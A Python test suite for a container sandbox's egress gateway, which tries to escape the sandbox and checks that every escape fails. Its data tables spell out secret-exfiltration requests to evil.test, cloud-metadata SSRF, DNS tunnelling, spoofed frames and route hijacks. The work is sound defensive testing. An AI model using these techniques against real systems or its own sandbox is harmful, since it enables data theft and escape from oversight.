"""Ways out of a bottle that must not be. Each is one line of data: what is tried, and the words in which it fails.

Two bottles try: `narrow`, whose policy names the lab's hosts, and `open`, whose policy allows every host and port, so that what
still stops it is not policy. The gateway's configuration allows the lab's whole private range as upstream, as a careless
operator would. Beside the words, the world outside is asked what it saw: no marker of an escape, no secret, and nobody but
the gateway.
"""

import contextlib
import json
import socket
import subprocess
import threading
import unittest
from pathlib import Path

import lab
from attempt import TAGS
from lab import ADMIN_PORT, ALLOCATOR_PORT, BOTTLE_IMAGE, GATEWAY, HOST_ON_UPLINK, HOST_PORT, NAME, ORIGIN, docker, run

# A bottle and its peer listen here.
BOTTLE_PORT = 7777

# What the narrow bottle asks the gateway for, and the reason in its answer. `{secret}` is new each time.
ASKED = [
    ("a host that is not on the list", "https://evil.test/", "policy"),
    ("a name server over HTTPS", "https://1.1.1.1/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB", "policy"),
    ("an address", f"http://{ORIGIN}/", "policy"),
    ("an address with an allowed Host", f"-H 'Host: origin.test' http://{ORIGIN}/", "policy|authority"),
    ("an address with an allowed SNI", f"-k --connect-to origin.test:443:{ORIGIN}:443 https://origin.test/", "policy|authority"),
    ("an allowed CONNECT with another SNI", "-k --connect-to evil.test:443:origin.test:443 https://evil.test/", "authority"),
    ("an allowed SNI with another Host", "-H 'Host: evil.test' https://origin.test/", "authority"),
    ("a secret in the path", "https://origin.test/{secret}", "detector"),
    ("a secret in the query", "'https://origin.test/?a={secret}'", "detector"),
    ("a secret in the query, percent-encoded", "'https://origin.test/?a=%41{secret_tail}'", "detector"),
    ("a secret in the body", "-d '{{\"a\": \"{secret}\"}}' https://origin.test/", "detector"),
    ("a secret in a header", "-H 'X-Note: {secret}' https://origin.test/", "detector"),
    ("a secret in a cookie", "-b session={secret} https://origin.test/", "detector"),
    ("a secret as a password", "-u user:{secret} https://origin.test/", "detector"),
    ("a secret in a method", "-X {secret} https://origin.test/", "detector|framing|policy"),
    ("a secret in a subdomain", "https://{secret}.wild.test/", "detector"),
    ("a secret without TLS", "http://origin.test/{secret}", "detector"),
]

# What the open bottle asks the gateway for: policy allows it all, the guard on addresses must not.
ADDRESSES = [
    ("metadata", "http://169.254.169.254/latest/meta-data/"),
    ("metadata, by name", "http://metadata.test/latest/meta-data/"),
    ("metadata, as IPv6", "http://[::ffff:169.254.169.254]/"),
    ("the gateway's admin port", f"http://{GATEWAY}:9190/metrics"),
    ("the gateway's admin port, by name", "http://gateway.test:9190/metrics"),
    ("the gateway's admin port, on loopback", "http://127.0.0.1:9190/metrics"),
    ("the gateway's admin port, in the lease", "http://{own_gateway}:9190/metrics"),
    ("the gateway itself", f"http://{GATEWAY}:9099/"),
    ("another bottle", f"http://{{other}}:{BOTTLE_PORT}/"),
    ("another bottle's gateway", "http://{other_gateway}:9190/metrics"),
    ("the host, by name", f"http://host.test:{HOST_PORT}/"),
    ("the allocator", f"http://{HOST_ON_UPLINK}:{ALLOCATOR_PORT}/metrics"),
]

# What is tried past the gateway, by attempt.py. The control is the same words where they must reach.
DIRECT = [
    ("TCP to an origin", f"tcp {ORIGIN} 8080", "host"),
    ("TLS's port of an origin", f"tcp {ORIGIN} 80", "host"),
    ("UDP", f"udp {ORIGIN} 53", "host"),
    ("ICMP", f"ping {ORIGIN}", None),
    ("a name server", f"dns {ORIGIN} {{secret}}.wild.test", "host"),
    ("the engine's name server", "dns 127.0.0.11 {secret}.wild.test", None),
    ("the gateway as a name server", "dns {own_gateway} {secret}.wild.test", None),
    ("the gateway's admin port, in the lease", "tcp {own_gateway} 9190", None),
    ("the gateway's admin port, on the uplink", f"tcp {GATEWAY} 9190", "host"),
    ("the gateway's proxy port, on the uplink", f"tcp {GATEWAY} 9099", "host"),
    ("the gateway's proxy port, in another lease", "tcp {other_gateway} 9099", None),
    ("another bottle", f"tcp {{other}} {BOTTLE_PORT}", "other"),
    ("metadata", "tcp 169.254.169.254 80", None),
    ("DNS over TLS", "tcp 1.1.1.1 853", None),
    ("QUIC", f"udp {ORIGIN} 443", None),
    ("TCP over IPv6", "tcp 2001:db8::1 443", None),
    ("UDP over IPv6", "udp 2001:db8::1 53", None),
    ("IPv6 on the link", f"tcp fe80::1%eth0 {HOST_PORT}", None),
    ("everybody on the link over IPv6", "ping ff02::1%eth0", None),
    ("raw frames", "packet", "host"),
]

# A commit of one line, pushed to a branch of its own; then what the bottle may know of refusals.
PUSH = """rm -rf /data/push && git clone -q https://git.test/git/pushed.git /data/push && cd /data/push && echo {text} >file && git add file
git -c user.name=agent -c user.email=agent@bottle.test commit -qm one && git push -q origin HEAD:refs/heads/{branch}
curl -sS http://decant.internal/blocks"""

# Whom a bottle calls without asking the routing table; the host's own addresses are added.
ON_LINK = [
    ("the gateway's admin port", f"onlink {GATEWAY} 9190"),
    ("the gateway in another lease", "onlink {other_gateway} 9099"),
    ("another bottle", f"onlink {{other}} {BOTTLE_PORT}"),
    ("a name server", f"onlink {ORIGIN} 53"),
    ("metadata", "onlink 169.254.169.254 80"),
]


class Listener:
    """A service of the host on every address it has, by TCP and UDP; remembers who came."""

    def __init__(self):
        self.socket = socket.create_server(("::", HOST_PORT), family=socket.AF_INET6, dualstack_ipv6=True)
        self.datagrams = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        self.datagrams.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        self.datagrams.bind(("::", HOST_PORT))
        self.peers = []
        for serve in (self.serve, self.serve_datagrams):
            threading.Thread(target=serve, daemon=True).start()

    def serve_datagrams(self):
        with contextlib.suppress(OSError):
            while True:
                self.peers.append(self.datagrams.recvfrom(512)[1][0])

    def serve(self):
        with contextlib.suppress(OSError):
            while True:
                stream, peer = self.socket.accept()
                self.peers.append(peer[0])
                with stream, contextlib.suppress(OSError):
                    stream.sendall(b"HTTP/1.0 200 OK\r\n\r\nthe host itself\n")


class NameServer:
    """A resolver on the host's loopback, as many hosts have one; remembers what it was asked."""

    def __init__(self):
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind(("127.0.0.1", 53))
        self.asked = b""
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        with contextlib.suppress(OSError):
            while True:
                packet, peer = self.socket.recvfrom(512)
                self.asked += packet
                self.socket.sendto(packet[:2] + b"\x81\x80" + packet[4:], peer)


def host_addresses():
    """Every address of this host that a bottle might name."""
    found = []
    for link in json.loads(run("ip", "-json", "address")):
        for address in link["addr_info"]:
            scope = "%eth0" if address["scope"] == "link" and address["family"] == "inet6" else ""
            if address["scope"] != "host":
                found.append(address["local"] + scope)
    return sorted(set(found))


def attempt_on_host(words):
    return run("python3", "-B", lab.TESTS / "attempt.py", *words.split())


class Watch:
    """What is heard of the frames in a container's network namespace."""

    def __init__(self, container, seconds=4):
        pid = docker("inspect", "--format", "{{.State.Pid}}", container)
        command = ["nsenter", f"--net=/proc/{pid}/ns/net", "python3", "-B", lab.TESTS / "attempt.py", "watch", str(seconds)]
        self.process = subprocess.Popen([str(word) for word in command], stdout=subprocess.PIPE, text=True)
        assert self.process.stdout.readline() == "watching\n"

    def lines(self):
        return set(self.process.communicate(timeout=30)[0].splitlines())


@contextlib.contextmanager
def any_source_taken(bridge):
    """The control: the host as it would be without its check of sources."""
    setting = Path(f"/proc/sys/net/ipv4/conf/{bridge}/rp_filter")
    before = setting.read_text()
    setting.write_text("0")
    try:
        yield
    finally:
        setting.write_text(before)


class Escapes(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.lab = lab.shared()
        cls.narrow, cls.open = cls.lab.bottle("narrow"), cls.lab.bottle("open", policy="open")
        cls.other = cls.lab.bottle("other", policy="open")
        docker("exec", "-d", cls.other.name, "python3", "-m", "http.server", str(BOTTLE_PORT))
        lab.until("the other bottle serves", lambda: "reached" in cls.other.attempt(f"tcp 127.0.0.1 {BOTTLE_PORT}"))
        cls.listener = Listener()
        try:
            cls.resolver = NameServer()
        except OSError:
            cls.resolver = None

    @classmethod
    def tearDownClass(cls):
        cls.listener.socket.close()
        cls.listener.datagrams.close()

    def words(self, text, bottle, secret):
        return text.format(
            secret=secret,
            secret_tail=secret[1:],
            own_gateway=bottle.gateway,
            other=self.other.address,
            other_gateway=self.other.gateway,
        )

    def assert_unseen(self, secret):
        seen = json.dumps(self.lab.seen()).lower()
        self.assertNotIn(secret.lower(), seen, "it left")
        if self.resolver:
            self.assertNotIn(secret.lower().encode(), self.resolver.asked.lower(), "the host's resolver was asked")

    def test_what_is_asked_of_the_gateway(self):
        for name, asked, reason in ASKED:
            with self.subTest(name):
                secret = lab.aws_key()
                said = self.narrow.sh("curl -sS -m 20 " + self.words(asked, self.narrow, secret))
                self.assertRegex(said, rf'"reason":"({reason})"')
                self.assert_unseen(secret)

    def test_what_is_pushed(self):
        """The policy of the first bottle allows pushes, that of the second says nothing of them."""
        secret = f"key={lab.aws_key()}"
        for branch, bottle, text, refused in [("clean", self.narrow, "nothing", None),
                                              ("secret", self.narrow, secret, "aws-access-key-id found in the request body"),
                                              ("denied", self.open, "nothing", "route `anything` does not allow git push")]:
            with self.subTest(branch):
                said = bottle.sh(PUSH.format(text=text, branch=branch))
                there = self.narrow.sh("git ls-remote https://git.test/git/pushed.git")
                self.assertEqual(f"refs/heads/{branch}" in there, refused is None, said)
                if refused:
                    self.assertIn("403", said)
                    # The latest refusal stands first.
                    self.assertRegex(said, rf'\[\{{[^{{}}]*"detail":"{refused}"[^{{}}]*"host":"git.test"')

    def test_addresses_that_no_policy_opens(self):
        hosts = [(f"a service of the host at {address}", f"http://{bracketed(address)}:{HOST_PORT}/") for address in host_addresses() if "%" not in address]
        for name, url in ADDRESSES + hosts:
            with self.subTest(name):
                came = len(self.listener.peers)
                said = self.open.sh(f"curl -sS -m 20 --noproxy '' '{self.words(url, self.open, '')}'")
                self.assertRegex(said, r'"reason":"(address|policy)"')
                self.assertEqual(len(self.listener.peers), came, "it reached the host")

    def test_past_the_gateway(self):
        for name, words, control in DIRECT:
            with self.subTest(name):
                secret = lab.aws_key()
                words = self.words(words, self.narrow, secret)
                if control == "host":
                    self.assertEqual(attempt_on_host(words.replace(secret, "control")), "reached", "the control")
                elif control == "other":
                    self.assertEqual(self.other.attempt(words), "reached", "the control")
                said = self.narrow.attempt(words)
                self.assertIn("not there", said)
                self.assert_unseen(secret)

    def test_the_engines_resolver_asks_nobody_on_the_host(self):
        if not self.resolver:
            self.skipTest("something listens on port 53 of loopback")
        self.assertEqual(attempt_on_host("dns 127.0.0.1 control.test"), "reached", "the control")
        secret = lab.aws_key()
        self.narrow.attempt(f"dns 127.0.0.11 {secret}.test")
        self.assert_unseen(secret)

    def test_services_of_the_host(self):
        addresses = host_addresses()
        self.assertEqual(attempt_on_host(f"tcp {HOST_ON_UPLINK} {HOST_PORT}"), "reached", "the control")
        came = len(self.listener.peers)
        bridge = self.narrow.lease["subnet"]["gateway"]
        targets = [f"tcp {address} {port}" for address in [*addresses, bridge] for port in (HOST_PORT, ALLOCATOR_PORT, ADMIN_PORT, 2375)]
        outcomes = self.narrow.attempt(" -- ".join(targets)).splitlines()
        for target, outcome in zip(targets, outcomes, strict=True):
            with self.subTest(target):
                self.assertIn("not there", outcome)
        self.assertEqual(len(self.listener.peers), came, "somebody reached the host")

    def test_the_engines_socket_is_nowhere(self):
        found = self.narrow.sh("find / -xdev -name '*.sock' -type s 2>/dev/null; ls /run/decant /var/lib/decant 2>&1")
        self.assertNotIn(".sock", found)

    def test_another_bottles_token_makes_nobody_else(self):
        asked = f"curl -sS --proxy-user x:{lab.TOKEN} http://decant.internal/whoami"
        self.assertIn(self.narrow.lease["id"], self.narrow.sh(asked))

    def test_an_alias_shadows_no_name(self):
        args = self.narrow.lease["docker_args"]
        docker("run", "-d", "--name", f"{NAME}-shadow", "--label", f"{NAME}=1", *args, "--network-alias", "origin.test",
               BOTTLE_IMAGE, "python3", "-m", "http.server", "80")
        resolved = self.narrow.sh("getent hosts origin.test")
        self.assertIn("10.201.", resolved, "the control: the alias is there")
        self.assertIn("the origin", self.narrow.sh("curl -sS http://origin.test/"))
        docker("rm", "-f", f"{NAME}-shadow")

    def test_the_gateways_address_is_taken(self):
        network = self.narrow.lease["subnet"]["network_name"]
        said = docker("run", "--rm", "--name", f"{NAME}-usurper", "--network", network, "--ip", self.narrow.gateway, BOTTLE_IMAGE, "true", check=False)
        self.assertIn("Address already in use", said)

    def test_calls_that_ask_no_routing_table(self):
        bridge = f"br-{self.narrow.lease['subnet']['network_id'][:12]}"
        hosts = [address for address in host_addresses() if ":" not in address]
        came = len(self.listener.peers)
        with any_source_taken(bridge):
            self.narrow.attempt(f"onlink {HOST_ON_UPLINK} {HOST_PORT}")
            if Path("/proc/sys/net/ipv4/conf/all/rp_filter").read_text().strip() == "0":
                lab.until("the control: it reaches the host", lambda: len(self.listener.peers) > came, 5)
        came = len(self.listener.peers)
        rows = ON_LINK + [(f"the host at {address}", f"onlink {address} {HOST_PORT}") for address in hosts]
        words = [self.words(words, self.narrow, "") for _, words in rows]
        for (name, _), outcome in zip(rows, self.narrow.attempt(" -- ".join(words)).splitlines(), strict=True):
            with self.subTest(name):
                self.assertIn("not there", outcome)
        self.assertEqual(self.listener.peers[came:], [], "somebody reached the host")
        self.assert_unseen("onlink.test")

    @contextlib.contextmanager
    def rogue(self):
        """As if somebody had started a container in the lease's network by hand, with the network's capabilities: runs in it."""
        name = f"{NAME}-rogue"
        docker("run", "-d", "--name", name, "--label", f"{NAME}=1", *self.narrow.lease["docker_args"], "--cap-add", "NET_ADMIN",
               "--cap-add", "NET_RAW", "--volume", f"{lab.TESTS}/attempt.py:/attempt.py:ro", BOTTLE_IMAGE, "sleep", "infinity")
        try:
            yield lambda command: docker("exec", name, "sh", "-c", command, check=False)
        finally:
            docker("rm", "-f", name)

    def test_frames_with_any_tag_and_any_source(self):
        network = self.narrow.lease["subnet"]
        bridge = f"br-{network['network_id'][:12]}"
        at_bridge = Path(f"/sys/class/net/{bridge}/address").read_text().strip()
        form = f'{{{{(index .NetworkSettings.Networks "{network["network_name"]}").MacAddress}}}}'
        at_gateway = docker("inspect", "--format", form, f"{NAME}-gateway")
        gateway, other = self.narrow.gateway, self.other.address
        came = len(self.listener.peers)
        with self.rogue() as rogue:
            own = rogue("hostname -I").split()[0]
            sources = [own, other, gateway, self.other.gateway, GATEWAY, HOST_ON_UPLINK, ORIGIN, "127.0.0.1"]
            frames = lambda sources, address, port, mac: " -- ".join(
                f"frame {tags} {source} {address} {port} {mac}" for tags in TAGS for source in sources)
            send = lambda words: self.assertEqual(set(rogue(f"python3 /attempt.py {words}").splitlines()), {"reached"}, "they are sent")
            with any_source_taken(bridge):
                send(f"frame vlan0 {own} {HOST_ON_UPLINK} {HOST_PORT} {at_bridge}")
                if Path("/proc/sys/net/ipv4/conf/all/rp_filter").read_text().strip() == "0":
                    lab.until("the control: a tagged frame reaches the host", lambda: len(self.listener.peers) > came, 5)
            came = len(self.listener.peers)
            at = {name: Watch(name) for name in (f"{NAME}-gateway", self.other.name)}
            send(frames(sources, gateway, 9099, at_gateway))
            for address in (host for host in host_addresses() if ":" not in host):
                send(frames(sources, address, HOST_PORT, at_bridge))
            for mac in (at_bridge, at_gateway):
                send(frames(sources, other, BOTTLE_PORT, mac))
                send(frames(sources, ORIGIN, 53, mac))
            heard = {name: watch.lines() for name, watch in at.items()}
        # Without a tag the host's packet filter may have seen to them already; it looks at no tagged ones.
        arrived = {f"{tags} syn {source} {gateway}" for tags in TAGS for source in (sources if tags != "plain" else [own])}
        self.assertEqual(arrived - heard[f"{NAME}-gateway"], set(), "the control: all arrive at the gateway")
        answers = {line for line in heard[f"{NAME}-gateway"] if f"answer {gateway}" in line}
        self.assertEqual(answers, {f"{tags} answer {gateway} {own}" for tags in TAGS}, "only the bottle's own source is answered, as itself")
        self.assertEqual(heard[self.other.name], set(), "the other bottle hears nothing")
        self.assertEqual(self.listener.peers[came:], [], "somebody reached the host")
        self.assert_unseen("frame.test")

    def test_a_bottle_with_too_many_rights_is_still_one(self):
        with self.rogue() as rogue:
            self.routes_by(rogue)

    def routes_by(self, rogue):
        other, gateway = self.other.address, self.narrow.gateway
        self.assertEqual(rogue("python3 /attempt.py packet"), "reached", "the control: it holds the capabilities")
        with self.subTest("the source of another bottle"):
            self.assertIn("not there", rogue(f"ip address add {other}/32 dev eth0; python3 /attempt.py spoof {other} {gateway} 9099; ip address del {other}/32 dev eth0"))
        with self.subTest("through the gateway to another bottle"):
            self.assertIn("not there", rogue(f"ip route replace {other}/32 via {gateway}; python3 /attempt.py tcp {other} {BOTTLE_PORT}"))
        with self.subTest("through the gateway to the world"):
            self.assertIn("not there", rogue(f"ip route replace {ORIGIN}/32 via {gateway}; python3 /attempt.py tcp {ORIGIN} 8080"))
        with self.subTest("the gateway's admin port on its other address"):
            said = rogue(f"ip route replace {GATEWAY}/32 via {gateway}; curl -sS -m 5 --noproxy '*' http://{GATEWAY}:9190/metrics")
            self.assertNotIn("decant_build_info", said)
            self.assertRegex(said, "admin_from|time")
        with self.subTest("another lease's address of the gateway"):
            said = rogue(f"ip route replace {self.other.gateway}/32 via {gateway}; curl -sS -m 5 -x http://{self.other.gateway}:9099 http://origin.test/")
            self.assertNotIn("the origin", said)

    def test_zz_only_the_gateway_was_outside(self):
        control = {HOST_ON_UPLINK}
        peers = {one["peer"] for one in self.lab.seen()}
        self.assertEqual(peers - control, {GATEWAY})


def bracketed(address):
    return f"[{address}]" if ":" in address else address


if __name__ == "__main__":
    unittest.main()
